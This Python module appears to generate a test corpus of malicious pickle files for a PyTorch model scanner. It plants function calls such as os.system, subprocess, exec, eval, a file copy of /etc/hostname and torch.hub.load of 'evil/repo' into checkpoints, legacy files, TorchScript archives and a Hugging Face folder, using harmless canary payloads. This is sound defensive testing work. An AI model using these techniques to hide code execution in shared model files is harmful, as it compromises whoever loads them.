"""Pickles that would run code, in every place where PyTorch reads a pickle."""

import io
import pickle
import pickletools
from collections import OrderedDict
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

from corpus.valid import place, rewrite, state_dict, torch_bytes, torchscript

# module, function, arguments; CANARY is replaced
CALLS = [
    ("os", "system", ("touch CANARY",)),
    ("posix", "system", ("touch CANARY",)),
    ("nt", "system", ("touch CANARY",)),
    ("subprocess", "call", (["touch", "CANARY"],)),
    ("subprocess", "Popen", (["touch", "CANARY"],)),
    ("builtins", "exec", ("open('CANARY', 'w')",)),
    ("builtins", "eval", ("open('CANARY', 'w')",)),
    ("__builtin__", "eval", ("open('CANARY', 'w')",)),
    ("builtins", "open", ("CANARY", "w")),
    ("io", "open", ("CANARY", "w")),
    ("builtins", "getattr", ("CANARY", "join")),
    ("pathlib", "Path.touch", ("CANARY",)),
    ("os", "mkdir", ("CANARY",)),
    ("shutil", "copy", ("/etc/hostname", "CANARY")),
    ("importlib", "import_module", ("antigravity",)),
    ("pickle", "loads", (b"cos\nsystem\n(S'touch CANARY'\ntR.",)),
    ("marshal", "loads", (b"\xe3",)),
    ("torch", "load", ("CANARY",)),
    ("torch", "save", ([], "CANARY")),
    ("torch.hub", "load", ("evil/repo", "model")),
    ("torch", "classes.load_library", ("CANARY",)),
    ("numpy", "save", ("CANARY", 1)),
    ("numpy", "memmap", ("CANARY", "uint8", "w+", 0, (1,))),
    ("numpy.testing._private.utils", "runstring", ("open('CANARY', 'w')", {})),
    ("timeit", "timeit", ("open('CANARY', 'w')",)),
    ("cProfile", "run", ("open('CANARY', 'w')",)),
    ("runpy", "run_path", ("CANARY",)),
    ("webbrowser", "open", ("file://CANARY",)),
    ("socket", "create_connection", (("127.0.0.1", 9),)),
    ("triggerfish.architectures.paper_cnn", "PaperCNN", ()),
]


class Call:
    """Pickles as the call of any function by its name."""

    def __init__(self, module: str, name: str, arguments: tuple) -> None:
        self.call = (_function(module, name), arguments)

    def __reduce__(self):
        return self.call


def _function(module: str, name: str):
    """A stand-in that pickles as ``module.name`` without importing anything."""
    return type(name, (), {"__module__": module, "stands_for": f"c{module}\n{name}\n"})


class _Pickler(pickle._Pickler):
    """Writes stand-ins as global names, unchecked."""

    def save_type(self, obj, *_):
        if "stands_for" in vars(obj):
            self.write(obj.stands_for.encode())
        else:
            self.save_global(obj)

    dispatch: ClassVar = {**pickle._Pickler.dispatch, type: save_type}

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, type):
            return self.save_type(obj)
        return super().save(obj, save_persistent_id)


def dumps(obj: object, protocol: int = 2) -> bytes:
    stream = io.BytesIO()
    _Pickler(stream, protocol).dump(obj)
    return stream.getvalue()


def _arguments(value, canary: str):
    match value:
        case str():
            return value.replace("CANARY", canary)
        case bytes():
            return value.replace(b"CANARY", canary.encode())
        case tuple() | list():
            return type(value)(_arguments(item, canary) for item in value)
    return value


def make(folder: Path, canary: str) -> Iterator[Path]:
    calls = [Call(m, n, _arguments(a, canary)) for m, n, a in CALLS]
    archive, legacy = torch_bytes(state_dict()), torch_bytes(state_dict(), legacy=True)
    for i, call in enumerate(calls):
        yield place(folder, f"zip-{i}.pt", rewrite(archive, {"data.pkl": dumps({"w": call})}))
        yield place(folder, f"plain-{i}.pkl", dumps(call, i % 5))
        yield place(folder, f"old-{i}.pth", _splice(legacy, 3, dumps({"w": call})))
    yield from _places(folder, calls[0], archive, legacy)


def _places(folder: Path, call: Call, archive: bytes, legacy: bytes) -> Iterator[Path]:
    payload = dumps(call)
    for i, what in enumerate(("magic", "protocol", "system", "object", "keys")):
        yield place(folder, f"old-{what}.pth", _splice(legacy, i, payload))
    hidden = OrderedDict()
    hidden.secret = call
    for name, data in {
        "key": {call: 1},
        "state": hidden,
        "lightning": {"state_dict": {}, "hyper_parameters": call},
        "optimizer": {"model": {}, "optimizer": {"state": [call]}},
        "bench": {
            "model_name": "a",
            "num_classes": 1,
            "model": {},
            "img_size": [],
            "bd_train": call,
        },
    }.items():
        yield place(folder, f"{name}.ckpt", rewrite(archive, {"data.pkl": dumps(data)}))
    persistent = b"\x80\x02" + payload[2:-1] + b"Q."
    yield place(folder, "persistent.bin", rewrite(archive, {"data.pkl": persistent}))
    for name in ("data.pkl", "constants.pkl"):
        spoiled = rewrite(torchscript(), {name: payload})
        yield place(folder, f"script-{name}.pt", spoiled)
    model = folder / "hf"
    model.mkdir()
    (model / "config.json").write_text('{"model_type": "resnet"}')
    place(model, "pytorch_model.bin", rewrite(archive, {"data.pkl": payload}))
    yield model


def _splice(legacy: bytes, index: int, payload: bytes) -> bytes:
    """A pre-1.6 file with one of its five pickles replaced."""
    stream, ends = io.BytesIO(legacy), [0]
    for _ in range(5):
        list(pickletools.genops(stream))
        ends.append(stream.tell())
    return legacy[: ends[index]] + payload + legacy[ends[index + 1] :]
